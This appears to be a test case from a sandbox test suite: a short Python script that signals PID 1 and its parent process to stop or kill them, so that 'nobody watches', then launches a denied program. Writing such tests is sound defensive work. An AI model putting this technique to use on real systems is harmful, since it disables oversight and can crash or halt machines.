"""Stop process 1, the parents and the group, so that nobody watches any more; then start the denied program."""

# aims: marks
# control: none (it would stop the developer's machine)
# session: own
import os
import signal
import subprocess

from attack import attempt, target, tried

tried()
for pid in (1, os.getppid()):
    for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGKILL, signal.SIGSEGV, signal.SIGABRT):
        if pid == 1 or number == signal.SIGSTOP:
            attempt(os.kill, pid, number)
attempt(lambda: subprocess.call([target["swift"]]))
attempt(os.kill, os.getppid(), signal.SIGCONT)
